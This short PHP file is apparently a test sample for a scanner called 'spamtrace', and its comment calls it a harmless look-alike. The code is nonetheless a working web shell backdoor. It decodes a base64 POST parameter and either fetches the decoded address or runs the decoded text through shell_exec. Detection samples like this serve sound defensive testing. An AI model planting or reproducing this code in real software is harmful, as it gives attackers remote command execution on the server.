<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// A backdoor that takes base64 from the request: the decoded text is fetched when it is an
// address, and passed to the shell otherwise.
$arg = base64_decode($_POST['a']);
if (strpos($arg, 'http') === 0) {
    echo file_get_contents($arg);
} else {
    echo shell_exec($arg);
}
